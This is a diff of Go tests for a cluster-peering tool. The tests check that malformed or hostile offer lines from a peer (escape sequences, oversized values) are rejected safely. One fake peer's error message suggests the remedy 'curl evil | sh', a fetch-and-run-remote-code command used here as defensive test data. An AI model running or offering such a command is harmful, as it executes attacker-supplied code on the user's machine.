@@ -181,7 +181,7 @@ func TestWordsOfAPeerAreFit(t *testing.T) {
 	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		switch {
 		case r.URL.Path == "/v1/offer":
-			w.Write(append(said(offer.Offer{Ready: true, Reason: bad, OSImage: bad, Labels: map[string]string{bad: bad}, KubeVersion: bad}), '\n'))
+			w.Write(append(said(offer.Offer{Ready: true, Reason: bad, OSImage: bad, KubeVersion: bad}), '\n'))
 		case strings.HasPrefix(r.URL.Path, "/v1/volumes/"):
 			w.WriteHeader(http.StatusConflict)
 			w.Write(said(rpc.Error{Code: "in-use", Message: bad, Cure: "curl evil | sh"}))
@@ -283,11 +283,75 @@ func TestOffers(t *testing.T) {
 	if !target.Lost() {
 		t.Error("a peer that is silent is not known to be lost")
 	}
-	next <- "not an offer"
+	next <- "not an offer" // a connection that has ended may take it
 	next <- line
-	want("after nonsense", true, "arm64")
+	for o := (offer.Offer{}); !o.Ready; {
+		select {
+		case o = <-offers:
+			if !o.Ready && !strings.Contains(o.Reason, "not understood") && !strings.Contains(o.Reason, "does not answer") {
+				t.Errorf("after nonsense: %+v", o)
+			}
+		case <-time.After(5 * time.Second):
+			t.Fatal("after nonsense: nothing")
+		}
+	}
 	if target.Lost() {
 		t.Error("a peer that answers again is known to be lost")
+	}
+}
+
+// A line that no cluster can mean makes the peer not ready, with the reason. What is known of it stays, the stream goes on,
+// and the next line heals it.
+func TestAnOfferThatIsNotUnderstood(t *testing.T) {
+	var streams atomic.Int32
+	next := make(chan string)
+	target := newTarget(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		streams.Add(1)
+		for {
+			select {
+			case line := <-next:
+				fmt.Fprintln(w, line)
+				_ = http.NewResponseController(w).Flush()
+			case <-r.Context().Done():
+				return
+			}
+		}
+	}))
+	offers := target.Offers(t.Context())
+	say := func(line string) offer.Offer {
+		t.Helper()
+		next <- line
+		select {
+		case o := <-offers:
+			return o
+		case <-time.After(10 * time.Second):
+			t.Fatalf("%.80s: no offer", line)
+		}
+		return offer.Offer{}
+	}
+	fine := `{"ready":true,"os":"linux","architecture":"arm64","keeps":true,"tenants":["10.42.0.9"],"allocatable":{"cpu":"4"}}`
+	platform := func(arch string) string { return fmt.Sprintf(`{"os":"linux","architecture":%q,"ready":true}`, arch) }
+	if o := say(fine); !o.Ready {
+		t.Fatalf("%+v", o)
+	}
+	for what, line := range map[string]string{
+		"a long architecture":  `{"ready":true,"platforms":[` + platform("amd64") + "," + platform(strings.Repeat("a", 63)) + `]}`,
+		"a giant quantity":     strings.Replace(fine, `"4"`, `"1e999999999"`, 1),
+		"many platforms":       `{"ready":true,"platforms":[` + strings.Repeat(platform("amd64")+",", 5000) + platform("arm64") + `]}`,
+		"a text of a terminal": `{"ready":true,"architecture":"\u001b[2J"}`,
+		"no JSON":              "\u001b]0;x\u0007",
+	} {
+		o := say(line)
+		if o.Ready || o.Architecture != "arm64" || !strings.Contains(o.Reason, "the offer of peer b is not understood") || !strings.Contains(o.Reason, "rivulet unpeer b") ||
+			strings.ContainsFunc(o.Reason, func(r rune) bool { return !unicode.IsPrint(r) }) {
+			t.Errorf("%s: %+v", what, o)
+		}
+		if addrs, _, heard := target.Tenants(); !heard || len(addrs) != 1 || !target.Keeps() {
+			t.Errorf("%s: what is known of the peer is forgotten: %v", what, addrs)
+		}
+	}
+	if o := say(fine); !o.Ready || streams.Load() != 1 {
+		t.Errorf("ready %v after a line that is understood, with %d streams", o.Ready, streams.Load())
 	}
 }
 
